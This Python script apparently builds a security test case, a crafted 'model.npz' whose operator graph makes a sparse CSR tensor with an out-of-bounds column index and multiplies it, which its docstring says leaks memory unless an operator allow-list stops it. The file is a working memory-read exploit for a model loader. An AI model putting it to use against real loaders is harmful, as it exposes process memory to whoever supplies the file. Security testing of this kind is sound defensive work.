"""Reads memory through the columns of a sparse matrix, which are not checked.

Stopped by: an operator has to be on a list.
"""

import json

import numpy as np

steps = []


def do(name, *args, **kwargs):
    at = f"s{len(steps)}"
    steps.append({"name": at, "do": f"aten.{name}", "args": args, "kwargs": {"map": kwargs}})
    return {"node": at}


rows = do("arange.default", 2)
columns = do("full.default", [1], 5000, dtype={"torch": "int64"})
kind = {"layout": {"torch": "sparse_csr"}}
sparse = do(
    "sparse_csr_tensor.crow_col_value_size", rows, columns, do("ones.default", [1]), [1, 8], **kind
)
said = do("mm.default", sparse, do("reshape.default", {"node": "d"}, [8, 1]))

graph = {"inputs": ["d", "x"], "steps": steps, "output": said}
told = {"dtype": "float32", "shape": [8]}
header = json.dumps({"graph": graph, "inputs": [True, False], "tensors": [told]}).encode()
np.savez(
    "model.npz",
    header=np.frombuffer(header, np.uint8),
    t0=np.arange(8, dtype="float32").view(np.uint8),
)
